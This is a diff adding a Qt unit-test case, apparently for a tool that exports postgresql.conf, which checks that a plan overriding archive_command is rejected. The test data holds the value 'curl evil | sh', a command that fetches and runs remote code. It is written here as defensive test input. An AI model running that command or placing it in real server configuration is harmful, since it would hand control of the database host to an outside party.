@@ -577,6 +577,16 @@ private slots:
               "        expression: heap / 4\n        explanation: A quarter of the heap.\n")
                                                << 24 << 21 << QStringLiteral("services.webapp.formulas.heap")
                                                << QStringLiteral("cycle: heap -> overhead -> heap");
+        // A plan a colleague sends must not make the exported postgresql.conf run a command.
+        QTest::addRow("catalog override with archive_command")
+            << QByteArray(head
+                          + "services:\n  - {name: db, kind: postgresql, tier: small}\n"
+                            "catalog:\n"
+                            "  - apiVersion: headroom/v1\n    kind: PostgresProfile\n    id: mine\n    name: Mine\n"
+                            "    description: Mine.\n    settings:\n"
+                            "      - {name: archive_command, value: \"curl evil | sh\", explanation: Why.}\n")
+            << 13 << 16 << QStringLiteral("postgresProfiles.mine.settings.archive_command.name")
+            << QStringLiteral("'archive_command' makes the server run a shell command");
         QTest::addRow("unknown node pool")
             << QByteArray(head + pool
                           + "    count: 3\nservices:\n  - name: db\n    kind: redis\n    tier: small\n"
